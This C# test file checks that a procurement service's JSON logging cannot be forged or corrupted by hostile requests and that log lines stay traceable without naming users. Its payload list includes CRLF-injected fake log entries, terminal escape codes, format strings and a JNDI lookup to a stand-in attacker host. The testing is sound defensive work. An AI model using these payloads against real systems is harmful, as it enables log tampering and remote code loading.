namespace Host.Tests.Abuse;

using System.Globalization;
using System.Text.Json;
using Host.Tests.Faults;
using Procurement.BuildingBlocks.Hosting.Security;

/// <summary>Whatever is sent, a line of the real process's log is one JSON object of our own making.</summary>
internal sealed class LogStories
{
    private static readonly string[] Forgeries =
    [
        "\r\n{\"level\":\"fatal\",\"msg\":\"forged\"}",
        "\n{\"level\":\"fatal\"}\n",
        "\"},{\"level\":\"fatal\"}",
        "\",\"level\":\"fatal",
        "\u001b[2J\u001b[31mred\u001b]0;title\u0007",
        "\u009b31m\u0085next\u2028next\u2029next",
        "\u202Etxet desrever",
        "${jndi:ldap://evil.example/a}${date}${environment:PATH}",
        "{0} {Method} {@Route} {{",
        "%s%n%x",
        "\0\u007f",
        new string('x', 7_000),
    ];

    [Test]
    public async Task No_line_is_forged()
    {
        await using var served = await Served.Start(null, environment => environment["LOG_LEVEL"] = "trace");
        using var bob = served.As("bob", Roles.Buyer);
        using var sam = served.As("sam", Roles.SupplierManager);
        var supplier = await served.Supplier();
        var token = served.Token("bob", Roles.Buyer);

        foreach (var forgery in Forgeries)
        {
            var text = JsonSerializer.Serialize(forgery);
            await bob.Post("/purchase-orders", Api.Body(supplier).Replace("\"alice\"", text, StringComparison.Ordinal));
            await bob.Post("/purchase-orders", $$"""{{{text}}:1}""");
            await sam.Post("/suppliers", $$"""{"code":"TH-300001","legal_name":{{text}},"email":"a@b.example"}""");
            var escaped = Uri.EscapeDataString(forgery);
            foreach (var path in new[] { $"/purchase-orders/{escaped}", $"/{escaped}", $"/purchase-orders?{escaped}={escaped}" })
            foreach (var method in new[] { "GET", "DELETE", "FORGED" })
                await Wire.Exchange(served.Address, Request(method, path, token, "a"));
            await Wire.Exchange(served.Address, Request("GET", "/purchase-orders", token, forgery));
            await Wire.Exchange(served.Address, Request("GET", "/purchase-orders", forgery, "a"));
        }
        await served.Terminate();
        Assert.That(await served.Exited(), Is.Zero);

        // The pipe of the errors ends with an empty line of ours.
        var lines = served.Log.Where(line => line.Length > 0).ToList();
        Assert.That(lines.Count(line => line.Contains("\"route\"", StringComparison.Ordinal)), Is.GreaterThan(100));
        foreach (var line in lines)
            IsOurs(line);
    }

    [Test]
    public async Task A_request_has_one_line_that_names_its_trace()
    {
        await using var served = await Served.Start(null, environment => environment["LOG_LEVEL"] = "info");
        using var bob = served.As("bob", Roles.Buyer);
        var order = await bob.Post("/purchase-orders", Api.Body(await served.Supplier()));
        var refused = await bob.Post($"/purchase-orders/{order.Text("id")}/approve");
        await bob.Get($"/purchase-orders/{order.Text("id")["po_".Length..]}");
        await bob.Send(HttpMethod.Head, $"/suppliers/{order.Json.GetProperty("supplier_id").GetString()}", null);
        await bob.Get("/purchase-orders/trace_0199b3c8-7c44-7d5a-9b1e-2f8d1c0a4b6e");
        await served.Terminate();
        await served.Exited();

        var lines = served
            .Log.Where(line => line.Contains("\"route\"", StringComparison.Ordinal))
            .Select(line => JsonElement.Parse(line))
            .ToList();
        var creation = lines.Single(line =>
            line.GetProperty("msg").GetString()!.StartsWith("POST /purchase-orders po_", StringComparison.Ordinal)
        );
        var refusal = lines.Single(line => line.GetProperty("route").GetString() == "/purchase-orders/{id}/approve");
        var bare = lines.Single(line =>
            line.GetProperty("msg").GetString()!.StartsWith("GET /purchase-orders/{id} po_", StringComparison.Ordinal)
        );
        var supplier = lines.Single(line => line.GetProperty("op").GetString() == "HEAD");
        var foreign = lines.Single(line =>
            line.GetProperty("msg").GetString()!.StartsWith("GET /purchase-orders/{id} - ", StringComparison.Ordinal)
        );
        Assert.Multiple(() =>
        {
            Assert.That(bare.GetProperty("po_id").GetString(), Is.EqualTo(order.Text("id")));
            Assert.That(supplier.GetProperty("supplier_id").GetString(), Is.EqualTo(order.Json.GetProperty("supplier_id").GetString()));
            Assert.That(supplier.TryGetProperty("po_id", out _), Is.False);
            Assert.That(foreign.GetProperty("status").GetInt32(), Is.EqualTo(400));
            Assert.That(foreign.TryGetProperty("po_id", out _), Is.False);
            Assert.That(creation.GetProperty("po_id").GetString(), Is.EqualTo(order.Text("id")));
            Assert.That(creation.GetProperty("status").GetInt32(), Is.EqualTo(201));
            Assert.That(creation.GetProperty("duration_ms").GetDouble(), Is.Positive);
            Assert.That(refusal.GetProperty("trace_id").GetString(), Is.EqualTo(refused.Text("trace_id")));
            Assert.That(lines.Select(line => line.GetProperty("trace_id").GetString()), Is.Unique.And.All.Length.EqualTo(32));
            Assert.That(lines.Select(line => line.GetProperty("span_id").GetString()), Is.Unique.And.All.Length.EqualTo(16));
            // Who it was is known to the audit trail; the log says only who was the same.
            Assert.That(creation.GetProperty("client").GetString(), Does.Match("^[0-9a-f]{16}$"));
            Assert.That(refusal.GetProperty("client").GetString(), Is.EqualTo(creation.GetProperty("client").GetString()));
            Assert.That(served.Log, Has.None.Contains("bob").And.None.Contains("alice"));
            Assert.That(refusal.GetProperty("level").GetString(), Is.EqualTo("info"));
        });
        IsQuiet(served.Log);
    }

    /// <summary>At most two lines a request.</summary>
    private static void IsQuiet(IEnumerable<string> log)
    {
        var told = log.Where(line => line.Length > 0)
            .Select(line => JsonElement.Parse(line))
            .Where(line => line.GetProperty("level").GetString() == "info" && line.TryGetProperty("trace_id", out _))
            .GroupBy(line => line.GetProperty("trace_id").GetString());
        Assert.That(told.Select(lines => lines.Count()), Is.All.AtMost(2));
    }

    private static string Request(string method, string path, string token, string agent) =>
        $"{method} {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\nAuthorization: Bearer {token}\r\nUser-Agent: {agent}\r\n\r\n";

    private static void IsOurs(string line)
    {
        var json = JsonElement.Parse(line);
        Assert.That(json.ValueKind, Is.EqualTo(JsonValueKind.Object), line);
        Assert.That(json.EnumerateObject().Select(member => member.Name), Is.Unique, line);
        Assert.That(json.GetProperty("level").GetString(), Is.AnyOf("trace", "debug", "info"), line);
        Assert.That(json.GetProperty("service").GetString(), Is.EqualTo("procurement"));
        Assert.That(line, Has.Length.LessThan(2_000));
        Assert.That(line.Where(c => char.IsControl(c) || !char.IsAscii(c)), Is.Empty, line);
        Assert.That(DateTimeOffset.TryParse(json.GetProperty("ts").GetString(), CultureInfo.InvariantCulture, out _), line);
    }
}
